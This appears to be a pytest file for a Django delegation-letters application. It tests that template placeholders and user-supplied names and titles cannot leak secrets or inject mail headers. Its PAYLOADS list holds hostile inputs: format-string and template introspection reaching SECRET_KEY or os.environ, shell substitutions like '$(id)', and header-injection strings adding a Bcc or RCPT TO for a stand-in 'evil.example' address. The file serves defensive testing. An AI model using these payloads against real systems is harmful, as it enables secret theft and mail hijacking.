"""Placeholders as attackers write them: a template is refused or literal, and so is what is put in.

Each payload is a template of a letter and, as a name or a title, what comes into letters and mails.
"""

import itertools
from collections.abc import Callable
from email import message_from_bytes, policy
from html import unescape
from typing import Any

import pytest
from django.conf import settings
from django.core import mail
from django.db import transaction
from django.template import Context, Template
from django.test import Client
from django.urls import reverse

from delegations.applications import letters, people, telling
from delegations.applications.choices import LetterKind
from delegations.models import LetterTemplate
from delegations.payments import accounts as bank
from oia.core import outbox
from oia.core.models import OutboxMail
from oia.office import handover, subjects
from oia.office.accounts import notices
from oia.office.accounts.actions import _tell_substitute
from oia.office.actions import invitations
from oia.office.models import Substitution
from tests import factories as make
from tests.soak.trial import FULL, Trial

PAYLOADS = (
    "{club.__class__}", "{club.__class__.__mro__}", "{club.__init__.__globals__}", "{0}", "{}",
    "{title.__class__.__base__.__subclasses__}", "{office.pk}", "{row.officer.password}",
    "{number!r}",
    "{number!s:>99}", "{number:>9999}", "{amount:{number}}", "{club[0]}", "{club[__class__]}",
    "{self}", "{settings.SECRET_KEY}", "{request.user}", "{__import__('os').environ}", "{Number}",
    "{number }", "{ number}", "{{number}}", "{{{number}}}", "{{", "}}", "{", "}", "{number",
    "number}",
    "%(club)s", "%(title)s", "%s", "%(__class__)s", "%%", "%d", "%(by)r", "100 %", "%(number)9999s",
    "{{ club }}", "{{ 1337|add:450 }}", "{{ settings.SECRET_KEY }}", "{{ club.title }}",
    "{{ 7*7 }}",
    "{% debug %}", "{% load static %}", "{% include 'base.html' %}", "{# x #}", "{% csrf_token %}",
    "${club}", "${1337*1337}", "#{club}", "<%= club %>", "$club", "$(id)", "`id`", "[[club]]",
    "\uff5bclub\uff5d", "\u2774club\u2775", "{\u0441lub}", "{cl\u200bub}", "{\u202eclub}",
    "{club\x00}",
    "x\r\nBcc: thief@evil.example", "x\nBcc: thief@evil.example", "x\rBcc: thief@evil.example",
    "x\r\n\r\nA body of its own", "x\x0bBcc: thief@evil.example", "x\u2028Bcc: thief@evil.example",
    "x\u0085Bcc: thief@evil.example", "x%0d%0aBcc: thief@evil.example", "=?utf-8?q?x=0aBcc:?= y",
    "x\r\nContent-Type: text/html\r\n\r\n<b>x</b>", "x\r\n.\r\nRCPT TO:<thief@evil.example>",
    "{" * 3000, "{a}" * 60, "%(" * 60,
)  # fmt: skip
NAIVE = ("{{ settings.SECRET_KEY }}",)
HEADERS = {
    "content-type", "mime-version", "content-transfer-encoding", "subject", "from", "to", "date",
    "message-id", "auto-submitted", "reply-to",
}  # fmt: skip
OWN = (
    "Number {number}, {club}: {title}, {first_day}, {amount}, {scheme}, {office}, {city}, {officer}"
)


def secrets() -> list[str]:
    """What only somebody inside could have written."""
    passwords = [one["PASSWORD"] for one in settings.DATABASES.values() if one.get("PASSWORD")]
    return [
        settings.SECRET_KEY, *passwords, "<class ", "object at 0x", "<bound method", "1787569",
        "'django.", "PBKDF2", "<QuerySet", "csrfmiddleware",
    ]  # fmt: skip


def leaks(text: str) -> bool:
    return any(secret in text for secret in secrets())


def plain(text: str) -> str:
    """Without what the database refuses, in one line as subjects and paragraphs are compared."""
    return " ".join(text.replace("\x00", "").replace("\u200b", "").split())


@pytest.fixture
def paper(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The letters as they go to the printer, which takes a third of a second for each."""
    printed: list[str] = []

    def keep(html: str, **about: Any) -> bytes:
        printed.append(f"{html}\n{about['title']}\n{about['author_office']}")
        return b""

    monkeypatch.setattr("oia.ui.pdf.render_pdf", keep)
    return printed


@pytest.fixture
def head(office: Any) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(make.make_user("head"))
    return client


def test_no_placeholder_leads_anywhere(
    office: Any, head: Client, paper: list[str], trial: Trial, monkeypatch: Any
) -> None:
    trial.promise = (
        f"{len(PAYLOADS)} payloads as words of every letter and as names, titles and reasons in "
        "every letter and mail: refused with a sentence or shown as they are; no attribute, no "
        "setting; a mail has the headers and the one recipient it should"
    )
    trial.control = "str.format or a Django template with the rows themselves"
    assert len(PAYLOADS) >= 40
    chosen = PAYLOADS if FULL else PAYLOADS[::19]
    for payload in chosen:
        for kind, language, field in itertools.product(
            LetterKind.values, ("de", "en"), ("subject", "text", "remedy")
        ):
            if kind == LetterKind.PAPERS and field == "remedy":
                continue  # it decides nothing, and its form has no such field
            with transaction.atomic():
                trial.saw(held=as_template(head, paper, office, kind, language, field, payload))
                transaction.set_rollback(True)
        with transaction.atomic():
            trial.saw(held=as_value(paper, office, payload))
            transaction.set_rollback(True)
        for send in MAILS:
            with transaction.atomic():
                trial.saw(held=as_mail(send, payload))
                transaction.set_rollback(True)
    for naive in (formatted, rendered):
        for payload in PAYLOADS if FULL else PAYLOADS[:2] + NAIVE:
            trial.control_saw(broke=naive(monkeypatch, paper, office, payload))


def as_template(
    head: Client, paper: list[str], office: Any, kind: str, language: str, field: str, payload: str
) -> bool:
    """Not rewritten, and the page says why; or the letter holds the payload as it was typed."""
    address = reverse("letter", args=[kind, language])
    given = {
        "subject": "Subject",
        "text": "Text",
        "remedy": "Remedy",
        field: f"Before {payload} after",
    }
    answer = head.post(address, given)
    if answer.status_code == 200:
        said = answer.context["form"].errors.get(field)
        return bool(said) and not LetterTemplate.objects.exists()
    if answer.status_code != 302:
        print(f"{kind} {language} {field} {payload[:40]!r}: {answer.status_code}")
        return False
    office.language = language
    office.save()
    club = make.make_club(title="Choir of Trials")
    html = printed(paper, office, kind, club).replace("</p><p>", " ")
    # Of a placeholder that there is, the value; a subject has none, and all else is as typed.
    filled = payload if field == "subject" else payload.replace("{club}", club.title)
    wanted = plain(f"Before {filled} after")
    held = wanted in plain(unescape(html)) and not leaks(html)
    if not held:
        print(f"{kind} {language} {field} {payload[:40]!r}: {html[:300]}")
    return held


def printed(paper: list[str], office: Any, kind: str, club: Any, **values: Any) -> str:
    made: dict[str, Callable[[], Any]] = {
        LetterKind.GRANT: lambda: letters.decision_letter(granted, office),
        LetterKind.REFUSAL: lambda: letters.decision_letter(granted, office),
        LetterKind.RECLAIM: lambda: letters.reclaim_letter(granted, office),
        LetterKind.REVOCATION: lambda: letters.revocation_letter(granted, office),
        LetterKind.PAPERS: lambda: letters.papers_letter(
            granted, office, [asked], [asked], make.DAY
        ),
    }
    granted = make.make_granted(club=club, **values)
    asked = make.make_paper(application=granted, text_de=club.title, due=make.DAY, request=1)
    if kind == LetterKind.REFUSAL:
        granted.granted = None
    if kind == LetterKind.RECLAIM:
        make.make_proof(application=granted, examined_by=make.make_user(), finding=club.title)
        make.make_reclaim(application=granted, text=club.title)
    if kind == LetterKind.REVOCATION:
        granted.revocation = make.make_revocation(
            application=make.make_granted(status="revoked"), text=club.title,
            decided_by=make.make_user("head"), decided=make.NOW,
        )  # fmt: skip
    made[kind]()
    return paper[-1]


def as_value(paper: list[str], office: Any, payload: str) -> bool:
    """Names and titles stand in the letter as they are, once: what they hold is filled no more."""
    text = payload.replace("\x00", "")[:150]
    for kind in LetterKind.values:
        LetterTemplate.objects.create(
            kind=kind, language="en", version=1, subject="S", text=OWN, remedy=OWN
        )
    office.language, office.name, office.city = "en", text[:100], text[:100]
    officer = make.make_user("officer", name=text[:100])
    for kind in LetterKind.values:
        club = make.make_club(title=text)
        html = printed(paper, office, kind, club, title=text, officer=officer,
            decision_text=text, conditions=text)  # fmt: skip
        shown = plain(unescape(html))
        if plain(f": {text}, ") not in shown or leaks(html):
            print(f"value {kind} {payload[:40]!r}: {html[:300]}")
            return False
    return True


# Mails -------------------------------------------------------------------------------------------
# Each writes its mails with the payload wherever somebody else's words stand in them.


def to_the_club(text: str) -> None:
    speaker = make.make_representative(club=make.make_club(title=text))
    officer = make.make_user("officer", name=text[:100])
    case = make.make_application(
        club=speaker.club, officer=officer, title=text, file_number=text[:50]
    )
    telling.write(application=case, text=text, by=officer)
    telling.tell_of_message(make.make_message(application=case, text=text), by=speaker.user)


def to_guests(text: str) -> None:
    place = make.make_place(text)
    event = make.make_event(title=text, place=place)
    guest = make.make_person(name=text, salutation=text)
    make.make_invitation(event=event, person=guest, name=text, email="guest@example.org")
    invitations.send(event=event, text=text, expected=1, by=make.make_user(name=text[:100]))


def to_successors(text: str) -> None:
    own = make.make_desk(f"{text[:90]} 2", holder=make.make_user(name=text[:100]))
    handover._tell(make.make_desk(text[:100]), own, 1, text, make.make_user(name=text[:100]))


def to_substitutes(text: str) -> None:
    row = Substitution.objects.create(
        user=make.make_user(name=text[:100]), substitute=make.make_user(),
        first_day=make.DAY, last_day=make.DAY,
    )  # fmt: skip
    _tell_substitute(row)


def to_accounts(text: str) -> None:
    user, by = make.make_user(name=text[:100]), make.make_user("admin", name=text[:100])
    make.make_user("head", name=text[:100])
    notices.send_invitation(user, by, lambda token: f"http://testserver/{token}")
    notices.tell_keepers(user, by, notices.changed)
    notices.tell_keepers(user, by, notices.invited)
    notices.tell_address("old@example.org", user, text)


def to_heads(text: str) -> None:
    make.make_user("head", name=text[:100])
    by = make.make_user("head", name=text[:100])
    subjects.hand_out(subject=make.make_person(name=text), reason=text or "x", by=by)


def to_strangers(text: str) -> None:
    people.ask_to_register(
        email="stranger@example.org", name=text, club=text, login_url="http://testserver/",
        link_to=lambda token: "http://testserver/link/",
    )  # fmt: skip


def to_holders(text: str) -> None:
    speaker = make.make_representative(club=make.make_club(title=text, email="club@example.org"))
    for number in (make.IBAN, "DE89370400440532013000"):
        bank.enter(club=speaker.club, iban=number, holder=text[:60] or "x", by=speaker.user)


MAILS: tuple[Callable[[str], None], ...] = (
    to_the_club, to_guests, to_successors, to_substitutes, to_accounts, to_heads, to_strangers,
    to_holders,
)  # fmt: skip


def as_mail(send: Callable[[str], None], payload: str) -> bool:
    """What goes out has the headers of our mails, one recipient, and says nothing of the inside."""
    # The database itself keeps no NUL; a file number holds fifty characters.
    text = payload.replace("\x00", "")[:150]
    mail.outbox.clear()
    send(text)
    wanted = dict(OutboxMail.objects.values_list("pk", "recipient"))
    assert wanted
    held = True
    for pk, recipient in wanted.items():
        outbox.deliver(pk)
        row = OutboxMail.objects.get(pk=pk)
        whole = mail.outbox.pop() if mail.outbox else None
        if whole is None or row.state != "sent":
            print(f"{send.__name__} {payload[:40]!r}: {row.state} {row.error}")
            return False
        read: Any = message_from_bytes(whole.message().as_bytes(), policy=policy.default)
        names = [name.lower() for name in read]
        text_part = read.get_body(("plain",)).get_content()
        good = (
            whole.recipients() == [recipient]
            and set(names) <= HEADERS
            and len(names) == len(set(names))
            and str(read["to"]) == recipient
            and plain(str(read["subject"])) == plain(row.subject)
            and not leaks(str(read))
            and not leaks(text_part)
        )
        if not good:
            print(f"{send.__name__} {payload[:40]!r}: {names} {row.subject[:80]!r}")
        held = held and good
    said = plain(" ".join(OutboxMail.objects.values_list("body", flat=True)))
    if send is not to_heads and plain(text)[:40] not in said:
        print(f"{send.__name__} {payload[:40]!r} is not in the mail")
        return False
    return held


# Without the guard -------------------------------------------------------------------------------


def formatted(monkeypatch: Any, paper: list[str], office: Any, payload: str) -> bool:
    return _naive(monkeypatch, paper, office, payload, lambda text, rows: text.format(**rows))


def rendered(monkeypatch: Any, paper: list[str], office: Any, payload: str) -> bool:
    return _naive(
        monkeypatch, paper, office, payload,
        lambda text, rows: Template(text).render(Context({**rows, "settings": settings})),
    )  # fmt: skip


def _naive(
    monkeypatch: Any, paper: list[str], office: Any, payload: str, fill: Callable[[str, Any], str]
) -> bool:
    """Whether something of the inside comes out, or what was typed does not come back."""
    rows = {"club": make.make_club(), "office": office, "title": "x", "number": "1", "amount": 1}
    with monkeypatch.context() as without:
        without.setattr(letters, "filled", lambda text, values: fill(text, rows))
        with transaction.atomic():
            LetterTemplate.objects.create(
                kind=LetterKind.GRANT, language=office.language, version=1, subject="S",
                text=payload.replace("\x00", ""), remedy="R",
            )  # fmt: skip
            try:
                html = printed(paper, office, LetterKind.GRANT, make.make_club())
            except (MemoryError, ValueError, KeyError, IndexError, AttributeError):
                html = ""
            except Exception as error:
                html = "" if "emplate" in type(error).__name__ else "object at 0x"
            transaction.set_rollback(True)
    return leaks(html)
